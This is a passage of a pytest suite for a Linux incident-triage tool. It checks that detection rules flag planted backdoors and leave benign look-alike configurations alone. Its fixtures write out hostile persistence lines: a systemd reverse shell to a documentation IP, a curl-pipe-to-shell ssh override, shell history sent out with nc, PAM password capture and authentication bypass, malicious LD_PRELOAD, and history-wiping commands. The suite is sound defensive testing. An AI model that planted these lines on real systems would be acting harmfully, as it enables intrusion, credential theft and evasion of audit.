                     {"/etc/sudoers.d/runner": "runner ALL=(ALL) NOPASSWD:ALL\n",
                      "/etc/sudoers.d/deploy.bak": "deploy ALL=(ALL) NOPASSWD:ALL\n",  # sudo skips names with '.'
                      "/etc/sudoers.d/deploy": "deploy ALL=(ALL) ALL\n"}),
    "TRI-CONF-020": ({"/etc/ssh/sshd_config": UBUNTU_SSHD + "PermitRootLogin yes\n"},
                     {"/etc/ssh/sshd_config": UBUNTU_SSHD + "PermitRootLogin yes\n",
                      "/etc/ssh/sshd_config.d/01-hardening.conf": "PermitRootLogin prohibit-password\n"}),
    "TRI-CONF-022": ({"/etc/ssh/sshd_config": UBUNTU_SSHD + "PermitEmptyPasswords yes\n"},
                     {"/etc/ssh/sshd_config": UBUNTU_SSHD + "PermitEmptyPasswords no\n"}),
    "TRI-CONF-023": ({"/etc/ssh/sshd_config": UBUNTU_SSHD + "AuthorizedKeysFile /etc/ssh/authorized_keys/%u\n"},
                     {"/etc/ssh/sshd_config": UBUNTU_SSHD
                      + "AuthorizedKeysFile .ssh/authorized_keys %h/.ssh/authorized_keys2\n"}),
    "TRI-CONF-024": ({"/etc/ssh/sshd_config": "AuthorizedKeysFile .ssh/authorized_keys /var/lib/.fonts/%u\n"
                      + UBUNTU_SSHD},
                     {"/etc/ssh/sshd_config": "AuthorizedKeysFile %h/.ssh/authorized_keys\n" + UBUNTU_SSHD}),
    "TRI-CONF-025": ({"/etc/ssh/sshd_config": UBUNTU_SSHD + "AuthorizedKeysCommand /usr/local/bin/keyd %u\n"},
                     {"/etc/ssh/sshd_config": UBUNTU_SSHD + "AuthorizedKeysCommand /usr/bin/google_authorized_keys\n"
                      "AuthorizedKeysCommandUser root\n"}),
    "TRI-CONF-026": ({"/etc/ssh/sshd_config": UBUNTU_SSHD + "AuthorizedKeysCommand /dev/shm/.k %u\n"},
                     {"/etc/ssh/sshd_config": UBUNTU_SSHD + "AuthorizedKeysCommand /opt/aws/bin/"
                      "eic_run_authorized_keys %u %f\nAuthorizedKeysCommandUser ec2-instance-connect\n"}),
    "TRI-CONF-030": ({"/etc/pam.d/sshd": "auth sufficient /usr/lib/.cache/pam_auth.so\n" + DEBIAN_PAM_SSHD},
                     {"/etc/pam.d/sshd": "auth required /opt/quest/lib64/security/pam_vas3.so\n" + DEBIAN_PAM_SSHD}),
    "TRI-CONF-031": ({"/etc/pam.d/sshd": "auth [success=done default=ignore] pam_sshd_helper.so\n" + DEBIAN_PAM_SSHD},
                     {"/etc/pam.d/sshd": "auth required pam_sshd_helper.so\n" + DEBIAN_PAM_SSHD}),
    "TRI-CONF-032": ({"/etc/pam.d/common-auth": "auth sufficient pam_permit.so\n" + COMMON_AUTH},
                     {"/etc/pam.d/common-auth": COMMON_AUTH}),
    "TRI-CONF-033": ({"/etc/pam.d/common-auth": COMMON_AUTH + "auth optional pam_exec.so quiet expose_authtok "
                      "/usr/local/bin/pwlog.sh\n"},
                     {"/etc/pam.d/common-auth": COMMON_AUTH}),
    "TRI-CONF-034": ({"/etc/pam.d/common-auth": COMMON_AUTH + "auth optional pam_exec.so /usr/local/bin/seen.sh\n"},
                     {"/etc/pam.d/common-auth": COMMON_AUTH}),  # the base's session pam_exec login notice
    "TRI-CONF-035": ({"/etc/pam.d/common-auth": "auth [success=2 default=ignore] ../../../var/tmp/pam_unix.so nullok\n"
                      + COMMON_AUTH},
                     {"/etc/pam.d/common-auth": "auth [success=2 default=ignore] /lib/x86_64-linux-gnu/security/"
                      "pam_unix.so nullok\n" + COMMON_AUTH}),
    "TRI-CONF-036": ({"/etc/pam.d/sshd": "auth optional /home/ubuntu/pam_log.so\n" + DEBIAN_PAM_SSHD},
                     {"/etc/pam.d/sshd": "auth optional /lib64/security/pam_log.so\n" + DEBIAN_PAM_SSHD}),
    "TRI-CONF-037": ({"/etc/pam.d/sshd": "auth required /opt/quest/lib64/security/pam_vas3.so\n" + DEBIAN_PAM_SSHD},
                     {"/etc/pam.d/sshd": "auth required pam_vas3.so\n" + DEBIAN_PAM_SSHD}),
    "TRI-CONF-040": ({"/root/.bash_logout": "unset HISTFILE\n"},
                     {"/root/.bash_logout": DEBIAN_LOGOUT, "/root/.bashrc": DEBIAN_BASHRC}),
    "TRI-CONF-041": ({"/etc/environment": 'PATH="/usr/local/bin:/usr/bin:/bin"\nLD_PRELOAD=/usr/lib/libsystem.so\n'},
                     {"/etc/environment": 'PATH="/usr/local/bin:/usr/bin:/bin"\nLD_LIBRARY_PATH=/opt/oracle/lib\n'
                      "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"}),
    "TRI-CONF-044": ({"/etc/profile.d/locale.sh": "export LD_PRELOAD=/dev/shm/.libc-2.31.so\n"},
                     {"/etc/profile.d/locale.sh": "export LD_PRELOAD="
                      "/usr/lib/x86_64-linux-gnu/libtcmalloc_minimal.so.4\n"}),
    "TRI-CONF-042": ({"/etc/profile.d/audit.sh": "export PROMPT_COMMAND='history 1 | nc -q0 203.0.113.8 9001'\n"},
                     {"/etc/profile.d/audit.sh": "export PROMPT_COMMAND='RETRN_VAL=$?;logger -p local6.debug "
                      "\"$(whoami) [$$]: $(history 1 | sed \"s/^[ ]*[0-9]\\+[ ]*//\" ) [$RETRN_VAL]\"'\n"
                      "PROMPT_COMMAND='history -a'\n"}),
    "TRI-CONF-043": ({"/home/ubuntu/.bashrc": DEBIAN_BASHRC + "alias sudo='/home/ubuntu/.cache/s'\n"},
                     {"/home/ubuntu/.bashrc": DEBIAN_BASHRC + "alias sudo='sudo '\nalias ssh='ssh -A'\n"
                      "alias su='/usr/bin/su -l'\n"}),
    "TRI-CONF-050": ({"/etc/systemd/system/dbus-helper.service":
                      "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'\n"
                      "Restart=always\n[Install]\nWantedBy=multi-user.target\n"},
                     {"/etc/systemd/system/pg-wait.service":
                      "[Service]\nType=oneshot\nExecStart=/bin/bash -c 'until echo > /dev/tcp/127.0.0.1/5432; "
                      "do sleep 1; done'\n"}),
    "TRI-CONF-051": ({"/etc/systemd/system/ssh.service.d/override.conf":
                      "[Service]\nExecStartPre=/bin/sh -c 'curl -fsSL http://198.51.100.7/k.sh | sh'\n"},
                     {"/etc/systemd/system/ssh.service.d/override.conf":
                      "[Service]\nExecStartPost=/usr/bin/curl -fsS -o /dev/null https://hc-ping.com/x\n"}),
    "TRI-CONF-052": ({"/etc/rc.local": "#!/bin/sh -e\nnohup /var/tmp/.font-unix/kthreadd >/dev/null 2>&1 &\nexit 0\n"},
                     {"/etc/rc.local": "#!/bin/sh -e\nrm -f /var/tmp/app.lock\n/opt/app/.venv/bin/python -m warm &\n"
                      "exit 0\n"}),
    "TRI-CONF-053": ({"/home/ubuntu/.profile": "~/.config/.sys/update >/dev/null 2>&1 &\n"},
                     {"/home/ubuntu/.profile": 'eval "$(~/.fnm/fnm env)"\n[ -x ~/.local/bin/mise ] && '
                      '~/.local/bin/mise activate bash\n'}),
}


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires_on_the_behaviour_not_on_its_look_alike(tmp_path, rule_id):
    planted, benign = CASES[rule_id]
    for name, files in (("planted", planted), ("benign", benign)):
        root = _base(tmp_path / name)
        for path, body in files.items():
            _w(root, path, body)
        found = _findings(_collect(root)[0])
        if name == "planted":
            assert rule_id in found, (rule_id, sorted(found))
            if found[rule_id][0]["severity"] in ("high", "critical"):  # this alone justifies a disk image
                flat = [f for hits in found.values() for f in hits]
                assert engine.verdict(flat, True, engine.load_verdict_policy())["recommendation"] == "yes"
        else:
            assert rule_id not in found, found[rule_id]
            assert _serious(found) == [], _serious(found)
            # nothing to ask memory either: without an image the verdict stays "no", not "needs-memory"
            flat = [f for hits in found.values() for f in hits]
            assert engine.verdict(flat, False, engine.load_verdict_policy())["recommendation"] == "no", flat


def test_every_config_rule_has_its_case():
    assert {r.id for r in RULES} - set(CASES) == {"TRI-CONF-021"}  # tested on the cloud image (a low)
    assert {r.severity for r in RULES if r.id == "TRI-CONF-021"} == {"low"}


@pytest.mark.parametrize("line", [
    "unset HISTFILE", "export HISTFILE=/dev/null", 'HISTFILE=""', "export HISTSIZE=0", "HISTFILESIZE='0'",
    "history -c", "set +o history", "unset -v HISTFILE HISTSIZE", "[ $UID = 0 ] && export HISTFILE=/dev/null",
    "ln -sf /dev/null ~/.bash_history", "SAVEHIST=0", "export HISTIGNORE='*'",
    "f() { echo; }\nunset HISTFILE", "function g {\n  echo ${HOME}\n}\nhistory -c",
])
def test_history_disabling_lines(tmp_path, line):
    root = _base(tmp_path / "root")
    _w(root, "/home/ubuntu/.bashrc", DEBIAN_BASHRC + line + "\n")
    found = _findings(_collect(root)[0])
    assert [f["severity"] for f in found.get("TRI-CONF-040", [])] == ["high"], line


@pytest.mark.parametrize("line", [
    "HISTSIZE=10000", "HISTFILESIZE=-1", "HISTCONTROL=ignoreboth:erasedups", "export HISTFILE=~/.history/bash",
    "PROMPT_COMMAND='history -a'", "alias forget='history -c'", "readonly HISTFILE", 'echo "$HISTFILE"',
    "HISTTIMEFORMAT='%F %T '", "forget() { history -c; }",
    "function wipe {\n  history -c\n  unset HISTFILE\n}\necho done",
    "private ()\n{\n    if [ -n \"${HISTFILE}\" ]; then\n        HISTFILE=/dev/null\n    fi\n}",
])
def test_history_settings_that_keep_history(tmp_path, line):
    root = _base(tmp_path / "root")
    _w(root, "/home/ubuntu/.bashrc", DEBIAN_BASHRC + line + "\n")
    assert "TRI-CONF-040" not in _findings(_collect(root)[0]), line


@pytest.mark.parametrize("line, expected", [
    ("nohup /dev/shm/.k/kswapd0 >/dev/null 2>&1 &", {"TRI-CONF-052": "high", "TRI-CONF-053": "medium"}),
    ("(sleep 30; /tmp/upd) &", {"TRI-CONF-052": "high"}),
    ("setsid ~/.cache/.dbus/dbus-daemon --fork", {"TRI-CONF-053": "medium"}),
    ("bash -c 'sh -i >& /dev/tcp/198.51.100.4/8443 0>&1' &", {"TRI-CONF-050": "critical"}),
    ("wget -qO- http://198.51.100.4/x | bash", {"TRI-CONF-051": "high"}),
    ("cleanup() { rm -f /tmp/.session-$$; /tmp/helper; }", {}),  # a function, run when called
    ('eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"', {}),
    ("[ -f ~/.fzf.bash ] && source ~/.fzf.bash", {}),
    ("/usr/bin/keychain --quiet ~/.ssh/id_ed25519", {}),
])
def test_programs_started_from_start_up_files(tmp_path, line, expected):
    root = _base(tmp_path / "root")
    _w(root, "/home/ubuntu/.bashrc", DEBIAN_BASHRC + line + "\n")
    found = _findings(_collect(root)[0])
    assert {rule: hits[0]["severity"] for rule, hits in found.items()} == expected, line


def test_hostile_config_files_are_bounded_and_stay_in_the_root(tmp_path):
    """Include loops, a PAM include that climbs out of the root, a FIFO unit, a huge rc file and a link to a
    file outside the root: problems or nothing, never a hang or a read outside."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "evil.service").write_text("[Service]\nExecStart=/tmp/OUTSIDE\n")
    (outside / "pam").write_text("auth sufficient /tmp/OUTSIDE.so\n")
    root = _base(tmp_path / "root")
    _w(root, "/etc/pam.d/loop-a", "@include loop-b\nauth required pam_unix.so\n")
    _w(root, "/etc/pam.d/loop-b", "@include loop-a\n")
    _w(root, "/etc/pam.d/climb", "@include ../../../../../../../../" + str(outside / "pam").lstrip("/") + "\n")
    _link(root, "/etc/systemd/system/evil.service", str(outside / "evil.service"))
    os.mkfifo(root / "etc/systemd/system/fifo.service")
    _w(root, "/root/.bashrc", "echo hi\n" * 100_000)
    _w(root, "/etc/sudoers", DEBIAN_SUDOERS + "@include /etc/sudoers\n")
    streams, problems = _collect(root)
    text = json.dumps(streams)
    assert "OUTSIDE" not in text
    assert any("loop" in p.message for p in problems)
    assert any("fifo.service" in (p.path or "") for p in problems)
    assert len([r for r in streams["shell_rc"] if r["file"] == "/root/.bashrc"]) == config.MAX_LINES_PER_FILE


def test_secret_values_in_start_up_files_and_units_stay_behind_the_redaction_gate(tmp_path):
    """What a line assigns is a mapping named environment, so the gate masks secret-named values there as in a
    process's environment; the text is masked by the secret rules."""
    from agent.engine.plan import load_secrets
    from agent.engine.redact import Redactor

    root = _base(tmp_path / "root")
    _w(root, "/home/ubuntu/.bashrc", DEBIAN_BASHRC + "export DB_PASSWORD=hunter2xyz\nAPI_TOKEN='tok3n-Secret-99'\n")
    _w(root, "/etc/systemd/system/app.service", '[Service]\nEnvironment="DB_PASSWORD=hunter2xyz" MODE=prod\n'
       "ExecStart=/opt/app/bin/app\n")
    streams, _ = _collect(root)
    app = next(r for r in streams["services"] if r.get("unit") == "app.service")
    assert app["environment"] == {"DB_PASSWORD": "hunter2xyz", "MODE": "prod"}
    redactor = Redactor(load_secrets())
    shipped = json.dumps([redactor.record(r, name) for name in ("shell_rc", "services") for r in streams[name]])
    assert "hunter2xyz" not in shipped and "tok3n-Secret-99" not in shipped
    assert '"MODE": "prod"' in shipped and '"HISTSIZE": "1000"' in shipped


# ---- a whole run: fake root -> collect --profile triage -> analyze --------------------------------

def _analyse(tmp_path: Path, root: Path) -> tuple[dict, list[dict]]:
    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--profile", "triage",
                                      "--output", str(tmp_path / "out")]))["bundle"]
    with tarfile.open(bundle) as tar:
        names = tar.getnames()
        shipped = b"".join(tar.extractfile(m).read() for m in tar.getmembers() if m.isfile())
    assert any(n.endswith("artifacts/services.jsonl") for n in names), names
    assert b"hunter2xyz" not in shipped  # the redaction gate holds for the config artifact's records and copies
    proc = run_triagent(["analyze", bundle, "--output", str(tmp_path / "analysis")])
    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
    with tarfile.open(summary["analysis"]) as tar:
        members = tar.getnames()
        findings = [json.loads(x) for x in tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()] \
            if "triagent/artifacts/findings.jsonl" in members else []
        verdict = json.loads(tar.extractfile("triagent/verdict.json").read())
    return verdict, findings


def test_whole_run_planted_config_says_yes_and_clean_image_says_no(tmp_path):
    clean = debian_cloud_root(tmp_path / "clean")
    _w(clean, "/etc/hostname", "web1\n")
    verdict, findings = _analyse(tmp_path / "a", clean)
    config_findings = [f for f in findings if str(f.get("rule", "")).startswith("TRI-CONF-")]
    assert not [f for f in config_findings if f["severity"] not in ("low", "info")], config_findings
    assert verdict["recommendation"] == "no", verdict
    planted = amazon_linux_root(tmp_path / "planted")
    _w(planted, "/etc/hostname", "app2\n")
    _w(planted, "/etc/rc.d/init.d/sysstatd", "#!/bin/bash\n# chkconfig: 2345 99 01\n. /etc/init.d/functions\n"
       "case \"$1\" in\nstart)\n  nohup /dev/shm/.x/sysstatd >/dev/null 2>&1 &\n  ;;\nesac\n", 0o755)
    _w(planted, "/root/.bash_logout", "history -c\nunset HISTFILE\n")
    _w(planted, "/root/.bashrc", "export DB_PASSWORD=hunter2xyz\n")
    verdict, findings = _analyse(tmp_path / "b", planted)
    by_rule = {f["rule"]: f for f in findings}
    assert "/etc/rc.d/init.d/sysstatd" in by_rule["TRI-CONF-052"]["summary"], sorted(by_rule)
    assert by_rule["TRI-CONF-040"]["severity"] == "high"
    pointer = by_rule["TRI-CONF-052"]["evidence"][0]
    assert pointer["member"].endswith("artifacts/services.jsonl") and pointer["line"] > 0
    assert verdict["recommendation"] == "yes", verdict


def test_files_system_copies_init_scripts_through_the_init_d_link(tmp_path):
    """files.system's pattern /etc/init.d/* reaches RHEL's rc.d/init.d through the in-root link (issue 20)."""
    root = amazon_linux_root(tmp_path / "root")
    _w(root, "/etc/hostname", "al2023\n")
    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--artifacts", "files.system",
                                      "--output", str(tmp_path / "out")]))["bundle"]
    with tarfile.open(bundle) as tar:
        names = tar.getnames()
    assert "fs/$rootfs$/etc/rc.d/init.d/network" in names and "fs/$rootfs$/etc/rc.d/init.d/functions" in names
